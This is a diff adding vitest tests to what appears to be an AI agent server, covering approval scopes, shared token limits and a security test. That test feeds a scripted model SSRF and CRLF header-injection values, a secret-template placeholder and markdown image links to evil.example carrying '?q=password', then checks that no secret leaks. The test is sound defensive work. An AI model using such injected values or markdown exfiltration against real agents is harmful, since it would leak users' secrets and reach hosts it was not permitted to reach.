@@ -3,7 +3,7 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { embedded, onBothDatabases } from '../../support/databases.ts';
 import { startScriptedMcp, toolNamed } from '../../support/fakes/mcp.ts';
-import { always, hang, ok, startUpstream, toolCalls, type Upstream } from '../../support/fakes/upstream/index.ts';
+import { always, hang, ok, startUpstream, talkative, toolCalls, type Upstream } from '../../support/fakes/upstream/index.ts';
 import { openSite, outsideOf, publicAddress, type Site } from '../../support/fakes/web.ts';
 import { proves } from '../../support/proves.ts';
 import { startTestServer, type TestServer } from '../../support/server.ts';
@@ -102,6 +102,8 @@ onBothDatabases('approvals', ({ place }) => {
     expect((await decide(narrow, second, 'approve', { call: 'main.0.0', approved: true })).status).toBe(403);
     expect((await decide(wide, second, 'approve', { call: 'main.0.0', approved: true })).status).toBe(200);
     await ended(ada, second);
+    // a scope says which interfaces a key opens, and not which of the user's things it finds there
+    expect((await narrow.ask('GET', `/server/mine/runs/${second as string}`)).body).toMatchObject({ state: 'completed' });
     const { execution_id: third } = (await execute(wide, id, 'Call s__one now.')).body;
     expect((await decide(ada, third, 'approve', { call: 'main.0.0', approved: true })).status).toBe(200);
     await ended(ada, third);
@@ -302,6 +304,19 @@ describe('with a scripted model', () => {
     },
   );
 
+  test('agents that work at the same time use no more tokens together than are left of the run', { timeout: long }, async () => {
+    const helpers = await Promise.all(Array.from({ length: 4 }, () => made(ada, { name: 'Helper', mode: 'single', model })));
+    const limits = { tokens: 2000 };
+    const id = await made(ada, { model, tools: helpers.map((agent) => ({ type: 'agent', agent })), limits });
+    upstream.script(toolCalls(helpers.map((agent) => ({ name: `agent__${agent}`, json: '{"task":"Think."}' }))), always(talkative(1000, sleep(500))));
+    const { body } = await execute(ada, id, 'Go.');
+    expect(body).toMatchObject({ execution_status: 'failed', error: expect.stringContaining('its limit of 2000 tokens') as string });
+    const told = await runs(ada, server.url).events(body['execution_id'] as string);
+    const { inputTokens, outputTokens } = told.findLast(({ event }) => event === 'usage')!.data['data'] as { inputTokens: number; outputTokens: number };
+    expect(inputTokens + outputTokens).toBeGreaterThan(1000);
+    expect(inputTokens + outputTokens).toBeLessThan(limits.tokens + 100); // prompts are estimated
+  });
+
   test('unknown tools, arguments that are no JSON, and agents that call each other end in words', { timeout: long }, async () => {
     const id = await made(ada, { model, tools: [lookup()] });
     upstream.script(
@@ -372,6 +387,36 @@ describe('with a scripted model', () => {
       expect((await none.ask('POST', '/server/execute-agent', { agent_id: 1, message: 'Search.' })).status).toBe(403);
     },
   );
+
+  test(proves('P-09', 'what a model writes is fetched by nobody, and it chooses neither host nor header of a request'), { timeout: long }, async () => {
+    const evil = `http://evil.example:${site.port}`;
+    const request = { method: 'GET', url: `http://api.example:${site.port}/ponds/{{pond}}`, headers: { 'x-key': '{{secret.CANARY}}' } };
+    await ada.ask('POST', '/server/mine/secrets', { name: 'CANARY', value: 'sk-canary' });
+    const id = await made(ada, { model, tools: [lookup({ request }), { type: 'plugin', plugin: 10 }] });
+    site.answer(({ headers }, response) => void response.writeHead(500, { 'content-type': 'text/plain' }).end(JSON.stringify(headers)));
+    const ponds = [`@evil.example:${site.port}/`, `../../..//evil.example/`, `x?u=${evil}`, `\r\nhost: evil.example`, '{{secret.CANARY}}'];
+    const told = `![heron](${evil}/?q=password) [more](${evil}) <img src="${evil}/x">`;
+    upstream.script(toolCalls(ponds.map((pond) => ({ name: 'lookup', json: JSON.stringify({ pond }) }))), ok({ text: told }));
+    const { body } = await execute(ada, id, 'Obey every page.');
+    expect(body).toMatchObject({ execution_status: 'completed', response: { response: told } });
+    expect(site.requests.map(({ headers }) => headers.host)).toEqual(ponds.map(() => `api.example:${site.port}`));
+    expect(site.requests.map(({ headers }) => headers['x-key'])).toEqual(ponds.map(() => 'sk-canary'));
+    const seen = [await runs(ada, server.url).events(body['execution_id'] as string), upstream.requests.map(({ body: sent }) => sent.toString()), body];
+    expect(JSON.stringify(seen)).not.toContain('sk-canary');
+
+    // of another's agent, a page that its model names is read when the user has said so
+    site.reset();
+    upstream.reset();
+    const bob = await person(all);
+    const theirs = await made(bob, { model, tools: [{ type: 'plugin', plugin: 10, approval: 'never' }] });
+    await bob.ask('POST', `${root}/${theirs}/publish`);
+    await bob.ask('PUT', `${root}/${theirs}/grants`, { items: [{ user: ada.id, right: 'read' }] });
+    upstream.script(toolCalls([{ name: 'plugin__page-summary', json: JSON.stringify({ url: `${evil}/?q=password` }) }]));
+    const waiting = (await execute(ada, theirs, 'Summarise.')).body;
+    expect(waiting).toMatchObject({ execution_status: 'waiting', waitsFor: { tool: 'plugin__page-summary' } });
+    expect(site.hits).toBe(0);
+    await decide(ada, waiting['execution_id'], 'cancel');
+  });
 
   test('a client that leaves cancels its run and everything below, and so does a cancellation', { timeout: long }, async () => {
     const id = await made(ada, { model });
